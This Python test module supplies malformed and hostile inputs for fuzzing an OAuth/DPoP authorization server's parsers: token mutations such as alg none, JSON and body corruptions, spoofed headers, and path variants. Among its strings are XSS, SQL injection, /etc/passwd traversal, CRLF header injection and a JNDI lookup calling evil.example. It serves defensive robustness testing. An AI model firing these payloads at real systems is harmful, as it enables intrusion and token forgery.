"""Values that have broken parsers before: as text, as JSON, as octets of a token, as methods, paths and headers."""

from __future__ import annotations

import base64
import gzip
import json
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = [
    "BODIES",
    "HEADERS",
    "JSON_DOCUMENTS",
    "MARKUP",
    "METHODS",
    "PARAMETERS",
    "QUERIES",
    "TOKENS",
    "paths",
    "texts",
    "values",
]

MARKUP: Final = "<script>alert(1)</script>"  # must never be seen in a page as it stands here
_LONG: Final = "a" * 20_000

_TEXTS: Final = (
    "",
    " ",
    "\0",
    "a\0b",
    "%",
    "%zz",
    "%00",
    "%252e",
    "+",
    "\r\nset-cookie: evil=1\r\n\r\n",
    "\t\v\f\x1b\x7f\x85",
    "\u202egpj.exe",
    "é",
    "\u212a",  # the Kelvin sign: lower case of it is k
    "\u017f",  # the long s: upper case of it is S
    "ﬁ①",
    "\ufeff",
    "\ufffe\uffff",
    "\ud800",  # half of a pair
    "\udfff\ud800",
    "😀",
    "\u0301" * 500,
    _LONG,
    "null",
    "true",
    "0",
    "-1",
    "1e400",
    "NaN",
    "[]",
    "{}",
    '{"a":1}',
    "../../../../etc/passwd",
    "'; drop table clients;--",
    MARKUP,
    f'">{MARKUP}',
    "{{7*7}}${7*7}<%=7*7%>",
    "${jndi:ldap://evil.example/a}",
    "*",
    "javascript:alert(1)",
    "//evil.example",
    "https://evil.example/",
    "https://localhost:8444/callback@evil.example",
    "{assertion}",
    "%s%n%x{0}",
    "__proto__",
)


def texts(original: str) -> list[str]:
    """Return texts to put in the place of one, always as many: hostile ones, and near misses of the original."""
    near = [
        original + " ",
        " " + original,
        original + "\n",
        original + "\0",
        original + "/",
        original[:-1],
        original[1:],
        original[::-1],
        original * 2,
        original.upper(),
        original.lower(),
        original.swapcase(),
        original.title(),
        original.replace("a", "\u0430"),  # Cyrillic
        f"{original},{original}",
        f"{original} {original}",
        f'"{original}"',
        f"[{original}]",
        "%2".join(f"{octet:02x}" for octet in original.encode("utf-8", "surrogatepass")[:50]),
        original.replace("-", "+").replace("_", "/"),
        original + "=",
        base64.b64encode(original.encode("utf-8", "surrogatepass")).decode(),
    ]
    return [*_TEXTS, *near]


def _nested(depth: int) -> object:
    value: object = "x"
    for _ in range(depth):
        value = [value]
    return value


def values(original: object) -> list[object]:
    """Return JSON values to put in the place of one, always as many: other types, edges of numbers, near misses."""
    near: list[object] = [
        [original],
        [original, original],
        [original, "x"],
        {"value": original},
        [[original]],
    ]
    if isinstance(original, str):
        near += texts(original)
    if isinstance(original, (int, float)):
        seconds = (-86_400, -3_600, -301, -61, -60, -31, 1, 29, 30, 31, 61, 299, 301, 3_600, 86_400, 10**9)
        near += [original + each for each in seconds]
        near += [str(original), -original, original * 1_000, original + 0.5, float(original), [original]]
    plain: list[object] = [
        None,
        True,
        False,
        0,
        -0.0,
        -1,
        0.1,
        2**31,
        2**53 + 1,
        2**63,
        2**64,
        10**40,
        1.7e308,
        5e-324,
        float("inf"),
        float("nan"),
        "",
        "x",
        [],
        [None],
        [[]],
        {},
        {"": ""},
        _nested(20),
        _nested(300),
        ["x"] * 3_000,
        {str(number): number for number in range(500)},
    ]
    return plain + near


def _edit_first_number(number: bytes) -> Callable[[bytes], bytes]:
    def edit(document: bytes) -> bytes:
        digits = next(
            (piece for piece in document.replace(b"}", b",").split(b",") if piece[-1:].isdigit()), b""
        )
        name, colon, _ = digits.rpartition(b":")
        return document.replace(digits, name + colon + number, 1) if colon else document

    return edit


# Changes to a JSON document as octets, wherever one stands: in a token, in a body.
JSON_DOCUMENTS: Final[tuple[tuple[str, Callable[[bytes], bytes]], ...]] = (
    ("empty", lambda _: b""),
    ("null", lambda _: b"null"),
    ("a string", lambda _: b'"x"'),
    ("a number", lambda _: b"7"),
    ("in an array", lambda document: b"[" + document + b"]"),
    ("twice", lambda document: document * 2),
    ("followed by something", lambda document: document + b"x"),
    ("followed by NUL", lambda document: document + b"\0"),
    ("in white space", lambda document: b" \n\t" + document + b"\r\n "),
    ("with a form feed", lambda document: b"\f" + document),
    ("with a byte order mark", lambda document: b"\xef\xbb\xbf" + document),
    ("in UTF-16", lambda document: document.decode("utf-8", "replace").encode("utf-16")),
    ("in UTF-32", lambda document: document.decode("utf-8", "replace").encode("utf-32")),
    ("in UTF-7", lambda document: document.decode("utf-8", "replace").encode("utf-7")),
    ("invalid UTF-8 in a string", lambda document: document.replace(b'":"', b'":"\xff\xfe', 1)),
    ("overlong UTF-8", lambda document: document.replace(b'":"', b'":"\xc0\xaf', 1)),
    ("a surrogate in UTF-8", lambda document: document.replace(b'":"', b'":"\xed\xa0\x80', 1)),
    ("half of an escaped pair", lambda document: document.replace(b'":"', b'":"\\ud800', 1)),
    ("the other half", lambda document: document.replace(b'":"', b'":"\\udc00', 1)),
    ("an escaped NUL", lambda document: document.replace(b'":"', b'":"\\u0000', 1)),
    ("a control character", lambda document: document.replace(b'":"', b'":"\n', 1)),
    ("a bad escape", lambda document: document.replace(b'":"', b'":"\\x41', 1)),
    ("escaped names", lambda document: document.replace(b'"i', b'"\\u0069', 1)),
    ("single quotes", lambda document: document.replace(b'"', b"'")),
    ("a trailing comma", lambda document: document[:-1] + b",}"),
    ("a comment", lambda document: b"/**/" + document),
    ("no closing brace", lambda document: document[:-1]),
    ("half of it", lambda document: document[: len(document) // 2]),
    ("the first member again, in front", lambda document: b'{"iss":"x","typ":"x","alg":"x",' + document[1:]),
    (
        "the first member again, at the end",
        lambda document: document[:-1] + b',"iss":"x","alg":"x","htm":"x"}',
    ),
    ("an equal member again", lambda document: document[:-1] + b"," + document[1:]),
    ("nested deeply", lambda document: document[:-1] + b',"x":' + b"[" * 5_000 + b"]" * 5_000 + b"}"),
    ("open brackets", lambda _: b"[" * 12_000),
    ("open objects", lambda _: b'{"a":' * 2_000),
    ("many members", lambda d: d[:-1] + b"".join(b',"m%d":0' % number for number in range(900)) + b"}"),
    ("a huge exponent", _edit_first_number(b"1e999")),
    ("a huge number", _edit_first_number(b"9" * 5_000)),
    ("an octal number", _edit_first_number(b"0123")),
    ("a hexadecimal number", _edit_first_number(b"0x10")),
    ("a plus sign", _edit_first_number(b"+1")),
    ("no digits", _edit_first_number(b"1.")),
    ("minus infinity", _edit_first_number(b"-Infinity")),
)


def _segments(edit: Callable[[str, str, str], str]) -> Callable[[str], str]:
    def apply(token: str) -> str:
        parts = (*token.split("."), "", "")
        return edit(parts[0], parts[1], parts[2])

    return apply


def _header(**members: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(members).encode()).rstrip(b"=").decode()


# Changes to a signed token in its compact form; the signature is not made again.
TOKENS: Final[tuple[tuple[str, Callable[[str], str]], ...]] = (
    ("without signature", _segments(lambda h, p, s: f"{h}.{p}.")),
    ("without its dots", _segments(lambda h, p, s: h + p + s)),
    ("two segments", _segments(lambda h, p, s: f"{h}.{p}")),
    ("five segments", _segments(lambda h, p, s: f"{h}.{p}.{s}.{s}.{s}")),
    ("an empty payload", _segments(lambda h, p, s: f"{h}..{s}")),
    ("an empty header", _segments(lambda h, p, s: f".{p}.{s}")),
    ("only dots", lambda _: ".."),
    ("many dots", lambda _: "." * 8_000),
    ("swapped segments", _segments(lambda h, p, s: f"{p}.{h}.{s}")),
    ("padded", _segments(lambda h, p, s: f"{h}=.{p}==.{s}=")),
    ("in the other alphabet", lambda token: token.replace("-", "+").replace("_", "/")),
    ("with spaces", lambda token: token.replace(".", " . ")),
    ("with line breaks", lambda token: token.replace(".", ".\n")),
    ("with a tab at the end", lambda token: token + "\t"),
    ("quoted", lambda token: f'"{token}"'),
    ("with commas", lambda token: f"{token},{token}"),
    ("with a scheme", lambda token: f"DPoP {token}"),
    ("with NUL", lambda token: token[:40] + "\0" + token[40:]),
    ("not ASCII", lambda token: token[:40] + "é" + token[40:]),
    ("wide letters", lambda token: token[:40] + "\uff41" + token[40:]),
    ("an impossible length", _segments(lambda h, p, s: f"{h}.{p}.{s[:-1]}")),
    ("unused bits set", _segments(lambda h, p, s: f"{h}.{p}.{s[:-1]}{chr(ord(s[-1]) ^ 1) if s else ''}")),
    ("a signature of zeros", _segments(lambda h, p, s: f"{h}.{p}.{'A' * 86}")),
    ("a signature in DER", _segments(lambda h, p, s: f"{h}.{p}.MEUCIQD{s}")),
    ("a signature of one octet", _segments(lambda h, p, s: f"{h}.{p}.AA")),
    ("a huge signature", _segments(lambda h, p, s: f"{h}.{p}.{'A' * 12_000}")),
    ("a signature twice", _segments(lambda h, p, s: f"{h}.{p}.{s}{s}")),
    ("a huge payload", _segments(lambda h, p, s: f"{h}.{'A' * 12_000}.{s}")),
    ("a huge header", _segments(lambda h, p, s: f"{'A' * 12_000}.{p}.{s}")),
    ("too large", lambda token: token + "A" * 20_000),
    ("alg none", _segments(lambda h, p, s: f"{_header(alg='none')}.{p}.")),
    ("alg nOnE", _segments(lambda h, p, s: f"{_header(alg='nOnE', typ='dpop+jwt')}.{p}.{s}")),
    ("alg HS256", _segments(lambda h, p, s: f"{_header(alg='HS256', typ='at+jwt')}.{p}.{s}")),
    (
        "an unencoded payload",
        _segments(lambda h, p, s: f"{_header(alg='ES256', b64=False, crit=['b64'])}.{p}.{s}"),
    ),
    ("as JSON", _segments(lambda h, p, s: json.dumps({"protected": h, "payload": p, "signature": s}))),
    ("upper case", str.upper),
    ("a flipped letter", lambda token: token[:-20] + ("A" if token[-20:-19] != "A" else "B") + token[-19:]),
)

METHODS: Final = (
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "post",
    "Get",
    "pOsT",
    "QUERY",
    "X",
    "X" * 5_000,
    "PO ST",
    "POST\r\nx: y",
    "GET,POST",
    "",
)

PARAMETERS: Final = (
    "client_secret",
    "client_id",
    "client_assertion",
    "client_assertion_type",
    "assertion",
    "grant_type",
    "response_type",
    "response_mode",
    "redirect_uri",
    "scope",
    "state",
    "nonce",
    "code",
    "code_challenge",
    "code_challenge_method",
    "code_verifier",
    "dpop_jkt",
    "request",
    "request_uri",
    "refresh_token",
    "access_token",
    "token",
    "token_type_hint",
    "username",
    "password",
    "resource",
    "audience",
    "authorization_details",
    "claims",
    "prompt",
    "max_age",
    "acr_values",
    "id_token_hint",
    "csrf",
    "decision",
    "credential",
    "subject_token",
    "__proto__",
    "a" * 200,
    "",
    "é",
    "\ud800",
    "x[]",
    "x.y",
)

HEADERS: Final[tuple[tuple[str, str], ...]] = (
    ("authorization", "Basic bW9uZXl2aWV3OnNlY3JldA=="),
    ("authorization", "Bearer"),
    ("authorization", "Bearer x"),
    ("authorization", "DPoP"),
    ("authorization", "DPoP  "),
    ("authorization", "DPoP x, DPoP y"),
    ("authorization", "Negotiate " + "A" * 5_000),
    ("authorization", ""),
    ("authorization", "\xff\xfe"),
    ("dpop", ""),
    ("dpop", "x"),
    ("dpop", "a.b.c"),
    ("dpop", ".."),
    ("dpop", "\xff" * 50),
    ("content-type", "application/json"),
    ("content-type", "multipart/form-data; boundary=x"),
    ("content-type", "text/plain"),
    ("content-type", "application/x-www-form-urlencoded; charset=utf-16"),
    ("content-type", "application/x-www-form-urlencoded; charset=utf-8"),
    ("content-type", "application/x-www-form-urlencoded, text/plain"),
    ("content-type", "APPLICATION/X-WWW-FORM-URLENCODED"),
    ("content-type", "application/x-www-form-urlencoded;" * 100),
    ("content-type", ""),
    ("content-type", "\xff"),
    ("content-encoding", "gzip"),
    ("content-length", "0"),
    ("content-length", "-1"),
    ("content-length", "99999999999999999999"),
    ("transfer-encoding", "chunked"),
    ("transfer-encoding", "gzip, chunked"),
    ("expect", "100-continue"),
    ("upgrade", "websocket"),
    ("host", "evil.example"),
    ("host", ""),
    ("x-forwarded-host", "evil.example"),
    ("x-forwarded-for", "127.0.0.1"),
    ("x-forwarded-proto", "http"),
    ("x-forwarded-client-cert", "Hash=x"),
    ("forwarded", "for=127.0.0.1;host=evil.example;proto=http"),
    ("x-original-url", "/admin"),
    ("x-rewrite-url", "/admin"),
    ("x-http-method-override", "DELETE"),
    ("client-cert", ":AAAA:"),
    ("origin", "https://evil.example"),
    ("origin", "null"),
    ("origin", "https://localhost:8441"),
    ("origin", "\xff"),
    ("sec-fetch-site", "cross-site"),
    ("sec-fetch-site", "same-site"),
    ("sec-fetch-site", "none"),
    ("sec-fetch-site", ""),
    ("access-control-request-method", "POST"),
    ("access-control-request-headers", "authorization, dpop"),
    ("referer", "https://evil.example/"),
    ("cookie", "a=b; " * 500),
    ("cookie", "__Host-trustweft-server-AAAAAAAAAAAAAAAAAAAAAA=" + "A" * 43),
    ("cookie", "; ".join(f"__Host-trustweft-server-{i:022d}={'A' * 43}" for i in range(200))),
    ("cookie", "\xff=\xfe"),
    ("cookie", ";;;==;"),
    ("accept", "*/*;q=abc"),
    ("accept", "text/html"),
    ("accept-encoding", "gzip, br, zstd"),
    ("accept-language", "x" * 3_000),
    ("range", "bytes=0-0, -1"),
    ("if-none-match", "*"),
    ("if-modified-since", "yesterday"),
    ("x-fapi-interaction-id", "c770aef3-6784-41f7-8e0e-ff5f97bddb3a"),
    ("x-fapi-interaction-id", "x\r\nset-cookie: evil=1"),
    ("idempotency-key", "\x01"),
    ("idempotency-key", "k" * 1_000),
    ("trustweft-reason", "http.not-found"),
    ("dpop-nonce", "x"),
    ("", ""),
    ("x y", "z"),
    ("é", "é"),
    ("x-large", "x" * 70_000),
    ("x-large", "x" * 60_000),
)

QUERIES: Final = (
    "access_token=x",
    "a=1&access%5Ftoken=x",
    "%61ccess_token=x",
    "client_id=otherapp",
    "failed=login.wrong-credentials",
    f"failed={MARKUP}",
    "added=yes",
    "&&&&",
    "====",
    "a" * 20_000,
    "a=b&" * 200,
    "%",
    "%00",
    "%ff%fe",
    "\xff\xfe",
    "?",
    "#fragment",
    "a=b;c=d",
    "from=2026-13-01&to=x&limit=-1",
    "limit=99999999999999999999",
)

BODIES: Final[tuple[tuple[str, Callable[[bytes], bytes]], ...]] = (
    ("empty", lambda _: b""),
    ("twice", lambda body: body + b"&" + body),
    ("twice without separator", lambda body: body + body),
    ("NUL at the end", lambda body: body + b"\0"),
    ("NUL in front", lambda body: b"\0" + body),
    ("an encoded NUL", lambda body: body + b"&x=%00"),
    ("invalid UTF-8", lambda body: body + b"&x=\xff"),
    ("encoded invalid UTF-8", lambda body: body + b"&x=%ff"),
    ("overlong UTF-8", lambda body: body + b"&x=%c0%80"),
    ("an encoded surrogate", lambda body: body + b"&x=%ed%a0%80"),
    ("bad percent", lambda body: body + b"&x=%"),
    ("bad percent digits", lambda body: body + b"&x=%g0"),
    ("a percent with u", lambda body: body + b"&x=%u0041"),
    ("semicolons", lambda body: body.replace(b"&", b";")),
    ("many separators", lambda body: b"&" * 99 + body),
    ("too many separators", lambda body: b"&" * 5_000 + body),
    ("many equal signs", lambda body: b"=" * 2_000 + body),
    ("many parameters", lambda body: body + b"".join(b"&p%d=" % number for number in range(95))),
    ("too many parameters", lambda body: body + b"".join(b"&p%d=" % number for number in range(5_000))),
    ("many equal parameters", lambda body: body + b"&p=" * 80),
    ("a huge value", lambda body: body + b"&x=" + b"a" * 60_000),
    ("too large", lambda body: body + b"&x=" + b"a" * 70_000),
    ("far too large", lambda body: body + b"&x=" + b"a" * 400_000),
    ("percent only", lambda _: b"%41" * 20_000),
    ("a byte order mark", lambda body: b"\xef\xbb\xbf" + body),
    ("UTF-16", lambda body: body.decode("latin-1").encode("utf-16")),
    ("compressed", gzip.compress),
    ("line breaks", lambda body: body.replace(b"&", b"&\r\n")),
    ("plus signs", lambda body: body.replace(b"&", b"+&+")),
    ("upper case", bytes.upper),
    ("reversed", lambda body: body[::-1]),
    ("everything encoded", lambda body: b"".join(b"%%%02x" % octet for octet in body)),
    ("encoded twice", lambda body: body.replace(b"%", b"%25")),
    ("encoded separators", lambda body: body.replace(b"&", b"%26")),
    ("encoded names", lambda body: body.replace(b"client_id", b"client%5Fid").replace(b"csrf", b"%63srf")),
    ("JSON", lambda body: json.dumps({"body": body.decode("latin-1")}).encode()),
    (
        "multipart",
        lambda body: b'--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n' + body + b"\r\n--x--",
    ),
    ("open brackets", lambda _: b"[" * 30_000),
    ("random octets", lambda _: bytes(range(256)) * 8),
)


def paths(original: str) -> list[str]:
    """Return paths near one, that readers may take for it."""
    return [
        original + "/",
        "/" + original,
        original.upper(),
        original.title(),
        original + "%00",
        original + "%2f",
        original + "/.",
        original + "/..",
        "/x/.." + original,
        "/." + original,
        original + ";x=1",
        original + "%3fx=1",
        original + "%20",
        original + " ",
        original + "\0",
        original + ".json",
        original + "\\",
        original.replace("/", "\\"),
        original.replace("/", "%2f"),
        original.replace("e", "%65", 1),
        original.replace("o", "%6f", 1),
        original.replace("o", "%6F", 1),
        original.replace("o", "%256f", 1),
        original.replace("t", "\uff54", 1),
        original.replace("i", "\u0131", 1),
        original[:-1],
        original + "x",
        original + "/" + "a" * 4_000,
        original + "//",
        "",
        "*",
        "/",
        "https://localhost:8441" + original,
        "//evil.example" + original,
        original + "\xff",
        original + "%ff",
        original + "#x",
        "/" * 3_000,
    ]
